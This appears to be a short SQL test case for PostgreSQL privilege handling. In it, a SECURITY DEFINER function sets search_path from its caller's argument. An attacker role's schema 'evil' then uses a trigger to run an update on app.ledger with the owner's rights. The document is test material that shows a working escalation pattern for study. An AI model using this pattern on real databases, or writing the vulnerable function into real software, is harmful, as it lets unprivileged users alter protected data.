-- A function of the owner's sets the path that its caller names
-- expect: B
-- base: revoked
-- loses: immutability
--> setup
CREATE SCHEMA evil AUTHORIZATION {x};
SET ROLE {owner};
CREATE TABLE app.notes (line text);
CREATE FUNCTION app.note(tenant text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$ BEGIN PERFORM set_config('search_path', tenant, true); INSERT INTO notes VALUES ('called'); END $$;
RESET ROLE;
--> as x
CREATE TABLE evil.notes (line text);
CREATE FUNCTION evil.go() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN UPDATE app.ledger SET status = ''changed''; RETURN NEW; END';
CREATE TRIGGER go BEFORE INSERT ON evil.notes FOR EACH ROW EXECUTE FUNCTION evil.go();
GRANT USAGE ON SCHEMA evil TO {owner};
GRANT INSERT ON evil.notes TO {owner};
SELECT app.note('evil');
